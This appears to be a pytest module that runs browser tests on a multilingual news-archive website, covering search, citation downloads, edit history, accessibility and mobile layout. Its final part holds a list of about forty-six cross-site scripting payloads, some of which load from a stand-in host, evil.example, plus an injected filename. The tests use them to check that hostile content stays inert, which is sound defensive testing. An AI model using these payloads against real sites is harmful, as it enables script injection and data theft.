"""The researcher's paths through the sample archive, in a real browser; accessibility, and hostile content."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode
from xml.etree import ElementTree

import pytest
from datasette.utils import tilde_encode  # type: ignore[import-untyped]

from nejat_crawler.archive import Archive
from tests.support.served import Site, article, make_archive, serving
from tests.website.test_site import TABLES

pytestmark = pytest.mark.browser

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if CHROMIUM is None:
        pytest.skip("no chromium is installed")
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    with sync_api.sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        yield started
        started.close()


@pytest.fixture(scope="module")
def archive(sample: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The crawled sample site, some of whose articles were edited and taken down since."""
    path = tmp_path_factory.mktemp("sample") / "sample.db"
    shutil.copy(sample, path)
    with Archive.open(path) as opened, opened.db.atomic():
        edited = list(
            opened.db.query("SELECT * FROM articles WHERE body != '' AND edition = 'fa' ORDER BY id LIMIT 2")
        )
        for row in edited:
            words = row["body"].split(" ")
            before = " ".join([*words[:3], "پیشین", *words[4:]])
            version = [row["id"], 1, row["title"], json.dumps(["Notices"]), before, "listing"]
            opened.db.execute(
                "INSERT INTO article_versions (article_id, version, title, categories, body, source, seen_from,"
                " seen_until) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
                [*version, "2026-01-01T08:00:00Z", "2026-02-01T08:00:00Z"],
            )
            opened.db.execute(
                "UPDATE articles SET versions = 2, changed_at = '2026-03-01T08:00:00Z' WHERE id = ?", [row["id"]]
            )
        opened.db.execute("UPDATE articles SET status = 'gone' WHERE id = (SELECT max(id) FROM articles)")
        opened.db.execute(
            "INSERT INTO status_changes SELECT id, '2026-04-01T08:00:00Z', 'gone', '404 in two runs' "
            "FROM articles WHERE status = 'gone'"
        )
        opened.db.table("newsletters").insert(
            {"id": "fa-n3", "edition": "fa", "title": "خبرنامه", "period": "خرداد ۱۴۰۲", "numbers": "[3]",
             "found_at": "issue.pdf", "captured_at": "2026-03-01T08:00:00Z"}
        )  # fmt: skip
        story = {"newsletter_id": "fa-n3", "text": "برف بارید (3 روز)."}
        opened.db.table("newsletter_stories").insert_all(
            [{**story, "position": 1, "title": "برف", "article_id": edited[0]["id"]},
             {**story, "position": 2, "title": "", "article_id": None}]
        )  # fmt: skip
    return path


@pytest.fixture(scope="module")
def site(archive: Path) -> Iterator[Site]:
    with serving(archive) as served:
        yield served


class Watched:
    """A tab with script switched off; what it asked for and what it complained about is kept."""

    def __init__(self, browser: Any, site: Site, **options: Any) -> None:
        self.context = browser.new_context(**{"java_script_enabled": False, **options})
        self.tab = self.context.new_page()
        self.site = site
        self.said: list[str] = []
        self.asked: list[str] = []
        self.tab.on("console", lambda message: self.said.append(message.text))
        self.tab.on("pageerror", lambda error: self.said.append(str(error)))
        self.tab.on("dialog", self._dismiss)
        self.tab.on("request", lambda request: self.asked.append(request.url))

    def _dismiss(self, dialog: Any) -> None:
        self.said.append(f"alert: {dialog.message}")
        dialog.dismiss()

    def go(self, path: str) -> Any:
        self.tab.goto(self.site.address + path)
        return self.tab

    def end(self) -> None:
        """Forget what was said and asked; nothing may have been asked of another host."""
        elsewhere = [url for url in self.asked if not url.startswith((self.site.address, "data:"))]
        self.said.clear()
        self.asked.clear()
        assert elsewhere == []


@pytest.fixture(scope="module")
def opened(browser: Any, site: Site) -> Iterator[Watched]:
    """One for many tests: to open one takes as long as three pages."""
    watched = Watched(browser, site)
    yield watched
    watched.context.close()


@pytest.fixture
def watched(opened: Watched) -> Iterator[Watched]:
    """Each test begins at an address of its own."""
    yield opened
    opened.end()


@pytest.mark.parametrize(
    ("typed", "marked", "language"),
    [("rope", "rope", "en"), ("برف", "برف", "fa"), ("الثلج", "الثلج", "ar"), ("debore", "dëbore", "sq")],
)
def test_search_open_and_cite_without_script(watched: Watched, typed: str, marked: str, language: str) -> None:
    tab = watched.go("/")
    tab.fill("#search", typed)
    tab.press("#search", "Enter")
    assert tab.locator("mark").first.inner_text().lower() == marked
    entry = tab.locator(f".entry[lang={language}]").filter(has=tab.locator('a[href*="/articles/"]')).first
    title = entry.locator("h2").inner_text()
    entry.locator("h2 a").click()
    assert tab.locator("h1").inner_text() == title
    assert tab.locator("article.article").get_attribute("lang") == language
    assert title in " ".join(tab.locator(".citation").inner_text().split())
    assert tab.locator("meta[name=citation_title]").get_attribute("content") == title
    with tab.expect_download() as download:
        tab.get_by_role("link", name="RIS").click()
    assert f"TI  - {title}" in Path(download.value.path()).read_text("utf-8")


def test_follow_the_history(watched: Watched) -> None:
    tab = watched.go("/nejat/changes")
    tab.get_by_role("link", name=re.compile("What changed")).first.click()
    assert tab.locator("#history").is_visible()
    assert tab.locator(".history del").filter(has_text="پیشین").count() == 1
    assert tab.locator(".history .diff").last.get_attribute("dir") == "rtl"


def test_filter_and_page(watched: Watched) -> None:
    tab = watched.go("/nejat/search")
    tab.locator(".facet").get_by_role("link", name="English").click()
    assert tab.locator(".entry:not([lang=en])").count() == 0
    first = tab.locator(".entry h2").first.inner_text()
    tab.get_by_role("link", name="Next").click()
    assert tab.locator(".pages [aria-current]").inner_text() == "2"
    assert tab.locator(".entry h2").first.inner_text() != first
    tab.fill("input[name=from]", "2020")
    tab.fill("input[name=to]", "۱۳۹۹")
    tab.get_by_role("button", name="Show").click()
    years = {time[:4] for time in tab.locator(".entry time").all_inner_texts()}
    assert years == {"2020", "2021"}


def test_only_as_typed_is_a_switch_that_is_seen(watched: Watched) -> None:
    tab = watched.go("/nejat/search?q=ropes")
    tab.get_by_label("exactly as typed").check()
    tab.press("#search", "Enter")
    assert "exact=1" in tab.url
    assert {word.lower() for word in tab.locator("mark").all_inner_texts()} <= {"ropes"}


def test_a_list_of_names_is_pasted_or_uploaded(watched: Watched) -> None:
    tab = watched.go("/nejat/names")
    tab.fill("#names", "rope")
    tab.set_input_files("#file", {"name": "a.txt", "mimeType": "text/plain", "buffer": "برف\n".encode()})
    tab.get_by_role("button", name="Count").click()
    assert tab.locator("tbody th").all_inner_texts() == ["rope", "برف"]
    assert int(tab.locator("tbody tr").last.locator("td").first.inner_text()) > 0
    with tab.expect_download() as download:
        tab.get_by_role("button", name="As CSV").click()
    assert Path(download.value.path()).read_text("utf-8").startswith("name,total,en,")
    tab.locator("tbody th a").first.click()
    assert tab.locator("mark").first.inner_text().lower() == "rope"


def test_timeline_leads_to_articles(watched: Watched) -> None:
    tab = watched.go("/nejat/timeline")
    tab.locator("svg a").first.click()
    assert re.search(r"/timeline/\d{4}-\d\d$", tab.url)
    tab.locator(".entry h2 a").first.click()
    assert tab.locator("article.article").count() == 1


def test_keyboard_reaches_the_text_first(watched: Watched) -> None:
    tab = watched.go("/nejat/categories")
    tab.keyboard.press("Tab")
    assert tab.locator("a.skip").is_visible()
    tab.keyboard.press("Enter")
    assert tab.url.endswith("#content")


CONTRASTS = """() => {
    const light = colour => {
        const [r, g, b] = colour.match(/[0-9]+/g).map(part => part / 255)
            .map(part => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const between = (one, other) => {
        const [low, high] = [light(one), light(other)].sort();
        return (high + 0.05) / (low + 0.05);
    };
    const page = getComputedStyle(document.body).backgroundColor;
    const link = document.querySelector("header.top nav a");
    link.focus({focusVisible: true});
    return [
        between(getComputedStyle(document.querySelector("input[name=q]")).borderTopColor, page),
        between(getComputedStyle(link).outlineColor, getComputedStyle(link.closest("header")).backgroundColor),
    ];
}"""


def test_fields_and_focus_are_seen(browser: Any, site: Site) -> None:
    tab = browser.new_page()
    for scheme in ("light", "dark"):
        tab.emulate_media(color_scheme=scheme)
        tab.goto(f"{site.address}/nejat/search")
        assert min(tab.evaluate(CONTRASTS)) >= 3, scheme  # which axe does not look at
    tab.close()


def pages(archive: Path) -> list[str]:
    """An address of every kind of page."""
    with Archive.open_readonly(archive) as opened:
        sql = "SELECT id FROM articles WHERE {} ORDER BY id LIMIT 1"
        ids = [
            next(iter(opened.db.query(sql.format(condition))))["id"]
            for condition in ("versions = 2", "status = 'gone'", "edition = 'en' AND body_html LIKE '%<img%'",
                              "edition = 'ar'", "edition = 'sq'", "protected", "body_html LIKE '%<table%'")
        ]  # fmt: skip
        tag = next(iter(opened.db.query("SELECT name FROM article_tags ORDER BY name LIMIT 1")))["name"]
    return [  # of long lists a few rows: the checker takes a second for a hundred links
        "/", "/nejat/search?size=4", "/nejat/search?q=snow&size=4", "/nejat/search?q=برف&sort=newest&size=4",
        "/nejat/search?q=zzzzz", "/nejat/search?q=snow&edition=sq&from=x", "/nejat/names?names=rope%0Asnow",
        "/nejat/search?q=tavrakani", f"/nejat/tags/{tilde_encode(tag)}", "/nejat/timeline",
        "/nejat/timeline/2023", "/nejat/categories", "/nejat/tags", "/nejat/issues", "/nejat/pictures",
        "/nejat/new", "/nejat/changes", "/nejat/removals", "/nejat/about", "/nejat/articles?_size=4",
        "/nejat/articles?_facet=theme&status=live&_search=snow&_size=4", "/nejat/articles/none",
        "/nejat/search?q=%23", "/nejat/search?q=NOT+snow", "/nejat/newsletters/fa-n3", "/nejat", "/nejat/newsletters",
        "/nejat/links?_sort=text&_size=4", f"/nejat/article_versions/{ids[0]},1", "/nejat/runs/1",
        "/nejat?sql=select+id,+title,+:x+from+articles+limit+4", "/nejat?sql=select+nonsense", "/nejat?sql=nonsense",
        "/nejat/articles?_sort=nonsense", "/nowhere", "/-/metadata", *(f"/nejat/articles/{name}" for name in ids),
    ]  # fmt: skip


AXE = """([without, options]) => axe.run(without || document, options)
    .then(({passes, violations}) => ({passes: passes.length, violations}))"""

#: Contrast is most of what the checker takes. Of text in the same colours, size and weight, on the same grounds and
#: in its place on the page, it is the same: `seen` are the looks that have passed.
CONTRAST = """async seen => {
    const known = new Set(seen), looks = new Map(), grounds = new Map();
    const groundOf = element => {
        if (!grounds.has(element)) {
            const style = getComputedStyle(element), colour = style.backgroundColor;
            const own = [style.backgroundImage, style.opacity, style.filter, style.mixBlendMode].join(" ");
            const above = element.parentElement ? groundOf(element.parentElement) : "";
            const inPlace = ["static", "relative"].includes(style.position) ? "" : `${location} ${grounds.size}`;
            const plain = own == "none 1 none normal" && colour == "rgba(0, 0, 0, 0)" && !inPlace;
            grounds.set(element, plain ? above : `${colour} ${own} ${inPlace} on ${above}`);
        }
        return grounds.get(element);
    };
    for (const element of document.querySelectorAll("body, body *")) {
        const written = element.matches("input, select, textarea")
            || [...element.childNodes].some(part => part.nodeType == Node.TEXT_NODE && part.data.trim());
        if (!written || !element.checkVisibility({visibilityProperty: true})) continue;
        const {color, fill, fontSize, fontWeight, textShadow} = getComputedStyle(element);
        const look = [color, fill, fontSize, fontWeight, textShadow, groundOf(element)].join(" ");
        if (!known.has(look)) looks.set(element, look);
    }
    if (!looks.size) return {passed: [], violations: []};
    const {passes, violations} = await axe.run({include: [...looks.keys()]}, {
        runOnly: ["color-contrast"], resultTypes: ["passes", "violations"], elementRef: true, selectors: false,
    });
    const passed = passes.flatMap(rule => rule.nodes).map(({element}) => looks.get(element));
    return {
        passed: [...new Set(passed)].filter(Boolean),
        violations: violations.map(({id, impact, nodes}) => ({id, impact, nodes: nodes.map(({html}) => ({html}))})),
    };
}"""


def test_axe_finds_nothing_serious(browser: Any, site: Site, archive: Path) -> None:
    axe = pytest.importorskip(
        "axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed"
    )
    # bypass_csp lets the checker's own script in, nothing else is changed
    # 320 pixels are what is left of a window of 1280 at four times the size
    context = browser.new_context(bypass_csp=True, viewport={"width": 320, "height": 844})
    context.add_init_script(axe.Axe().axe_script)
    tab = context.new_page()
    found: list[str] = []
    seen: dict[str, set[str]] = {"light": set(), "dark": set()}
    for path in pages(archive):
        tab.emulate_media(color_scheme="light")
        tab.goto(site.address + path)
        # the picture is the timeline's: its hundred links take as long as ten pages
        without = {"exclude": [["svg.chart"]]} if path == "/" else None
        options = {"resultTypes": ["violations"], "rules": {"color-contrast": {"enabled": False}}}
        result = tab.evaluate(AXE, [without, options])
        assert result["passes"]
        violations = {"light or dark": result["violations"]}
        for scheme, looks in seen.items():
            tab.emulate_media(color_scheme=scheme)
            contrast = tab.evaluate(CONTRAST, [*looks])
            looks.update(contrast["passed"])
            violations[scheme] = contrast["violations"]
        found += [
            f"{path} {scheme}: {violation['id']} ({violation['impact']}) {violation['nodes'][0]['html'][:200]}"
            for scheme, each in violations.items()
            for violation in each
            if violation["impact"] in {"serious", "critical"}
        ]
        wide = tab.evaluate("document.documentElement.scrollWidth - innerWidth")
        if wide > 0:
            found.append(f"{path}: {wide} pixels wider than the window")
    context.close()
    assert found == []
    assert min(map(len, seen.values())) >= 20


BROWSED = [
    "/", "/nejat/articles", "/nejat/articles?_search=باران", "/nejat/articles/en-1", "/nejat/articles/en-2",
    "/nejat/newsletters/en-19", "/nejat/search?q=river", "/nejat", "/nejat/images", "/nejat?sql=select+1",
    "/nejat/images/en-1,1", "/nejat/articles/none", "/-/metadata", "/nejat/articles/fa-3",
]  # fmt: skip


def test_odd_articles_fit_a_phone_and_are_shown_as_their_language_is_written(browser: Any, tmp_path: Path) -> None:
    with serving(make_archive(tmp_path / "nejat.db", TABLES)) as odd:
        watched = Watched(browser, odd, java_script_enabled=True, viewport={"width": 390, "height": 844})
        for path in BROWSED:
            overflow = watched.go(path).evaluate("document.documentElement.scrollWidth - innerWidth")
            assert overflow <= 0, f"{path} is {overflow} pixels wider than a phone"
        assert [line for line in watched.said if "404" not in line] == []
        shown = watched.tab.locator("article.article .body p").first
        assert shown.evaluate("element => getComputedStyle(element).direction") == "rtl"
        left, right = shown.evaluate(
            """element => {
                const range = document.createRange();
                range.selectNodeContents(element);
                const text = range.getBoundingClientRect(), box = element.getBoundingClientRect();
                return [text.left - box.left, box.right - text.right];
            }"""
        )
        assert right < 2 < left  # a short line stands at the right edge
        watched.end()
        watched.context.close()


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=//evil.example/x onerror=alert(1)></video>",
    "<audio src=//evil.example/x></audio>",
    "<video poster=//evil.example/x></video>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "--><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus=alert(1) autofocus "',
    "{{ 7*7 }}{% raw %}",
    "<!--<img src=x onerror=alert(1)>-->",
    "<picture><source srcset=//evil.example/x></picture>",
    "<img srcset='//evil.example/x 1x'>",
    "<table background=//evil.example/x><tr><td>x</td></tr></table>",
    "<font color=red onclick=alert(1)>x</font>",
    "<x onclick=alert(1)>x</x>",
    "<textarea></textarea><script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\0",
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The site on an archive in which every field is an attack."""
    tables: dict[str, list[dict[str, Any]]] = {
        name: []
        for name in (
            "articles",
            "article_categories",
            "article_tags",
            "images",
            "links",
            "article_versions",
            "status_changes",
            "newsletters",
            "newsletter_stories",
            "runs",
        )
    }
    for n, payload in enumerate(PAYLOADS, 1):
        tables["articles"].append(
            article(
                n,
                title=payload,
                body=payload,
                body_html=payload,
                category=payload,
                author=payload,
                byline=payload,
                url=payload,
                published_text=payload,
                found_at=payload,
                undated=payload,
                versions=2,
                changed_at=payload,
                theme=payload,
                status="gone" if n % 2 else "live",
            )
        )
        key = {"article_id": f"en-{n}"}
        tables["article_categories"].append({**key, "position": 1, "name": payload})
        tables["article_tags"].append({**key, "position": 1, "name": payload})
        tables["images"].append({**key, "position": 1, "src": payload, "alt": payload, "caption": payload})
        tables["links"].append({**key, "position": 1, "url": payload, "text": payload, "target": f"en-{n % 9 + 1}"})
        tables["article_versions"].append(
            {
                **key,
                "version": 1,
                "title": "x " + payload,
                "categories": json.dumps([payload]),
                "body": "before " + payload,
                "source": "a",
                "seen_from": payload,
                "seen_until": payload,
            }
        )
        tables["status_changes"].append({**key, "changed_at": payload, "status": "gone", "why": payload})
    tables["newsletters"].append(
        {
            "id": "en-n1",
            "edition": "en",
            "title": " ".join(PAYLOADS),
            "period": PAYLOADS[0],
            "numbers": "[1]",
            "found_at": PAYLOADS[2],
            "captured_at": PAYLOADS[4],
        }
    )
    tables["newsletter_stories"].append(
        {
            "newsletter_id": "en-n1",
            "position": 1,
            "title": PAYLOADS[0],
            "text": " ".join(PAYLOADS),
            "url": PAYLOADS[16],
            "article_id": "en-1",
        }
    )
    tables["runs"].append(
        {
            "command": PAYLOADS[0],
            "arguments": "{}",
            "started_at": "x",
            "finished_at": PAYLOADS[2],
            "outcome": PAYLOADS[4],
        }
    )
    tables["articles"].append(article(99, id='en-"; x=', post_id=99))
    with serving(make_archive(tmp_path_factory.mktemp("hostile") / "hostile.db", tables)) as served:
        yield served


def test_hostile_content_does_nothing(browser: Any, hostile: Site) -> None:
    assert len(PAYLOADS) >= 40
    watched = Watched(browser, hostile, java_script_enabled=True)
    visited = [f"/nejat/articles/en-{n}" for n in range(1, len(PAYLOADS) + 1)]
    visited += [
        "/",
        "/nejat/search",
        "/nejat/search?q=script",
        "/nejat/categories",
        "/nejat/tags",
        "/nejat/issues",
        "/nejat/pictures",
        "/nejat/changes",
        "/nejat/removals",
        "/nejat/new",
        "/nejat/newsletters/en-n1",
        "/nejat/newsletters",
        "/nejat/article_versions",
        "/nejat/article_versions/en-1,1",
        "/nejat/images",
        "/nejat/links?_size=4",
        "/nejat/runs",
        "/nejat/runs/1",
        "/nejat?sql=select+title,+body_html+from+articles",
        "/nejat/articles?_facet=title",
        "/nejat/articles",
        "/nejat/timeline/2023-05",
    ]
    for path in visited:
        tab = watched.go(path)
        assert tab.url == hostile.address + path, f"{path} led away"
        active = tab.evaluate(
            """() => [...document.querySelectorAll("*")].filter(one =>
                one.matches(
                    `script, iframe, object, embed, style, base, img,
                    form:not([role=search], .years, .filter, .sql)`)
                || [...one.attributes].some(a => a.name.startsWith("on") || a.name == "style")
                || /^(?!https?:|mailto:)[a-z]+:/i.test(one.getAttribute("href") || "")
            ).map(one => one.outerHTML)"""
        )
        assert active == [], path
    for payload in PAYLOADS[:8]:
        watched.tab.goto(f"{hostile.address}/nejat/search?{urlencode({'q': payload})}")
        watched.tab.goto(f"{hostile.address}/nejat?{urlencode({'sql': payload})}")
        watched.tab.goto(f"{hostile.address}/nejat/articles?{urlencode({'_sort': payload})}")
    assert [line for line in watched.said if "alert" in line or "Refused" in line] == []
    watched.end()
    watched.context.close()


def test_hostile_content_is_only_text_to_machines(hostile: Site) -> None:
    for feed in ("new", "changes", "removals", "search"):
        tree = ElementTree.fromstring(hostile.get(f"/nejat/{feed}.atom").text)
        titles = [title.text for title in tree.iter("{http://www.w3.org/2005/Atom}title")]
        assert len(titles) > 20
        assert feed == "removals" or PAYLOADS[1] in titles
    for n, payload in enumerate(PAYLOADS, 1):
        ris = hostile.get(f"/nejat/articles/en-{n}.ris").text.split("\r\n")
        assert [line for line in ris if not re.match(r"[A-Z][A-Z0-9]  - ", line)] == [""]
        assert [line[:2] for line in ris].count("ER") == 1
        bibtex = hostile.get(f"/nejat/articles/en-{n}.bib").text
        assert bibtex.count("{") == bibtex.count("}")
        assert bibtex.count("@online{") == 1
        [item] = hostile.get(f"/nejat/articles/en-{n}.csl.json").json()
        assert item["title"].split() == payload.replace("\0", " ").split()
    found = csv.DictReader(io.StringIO(hostile.get("/nejat/search.csv").text, newline=""))
    assert {row["title"] for row in found} >= set(PAYLOADS)
    named = hostile.get("/nejat/articles/en-%22;%20x=.bib").headers["content-disposition"]
    assert named == 'attachment; filename="en-___x_.bib"'
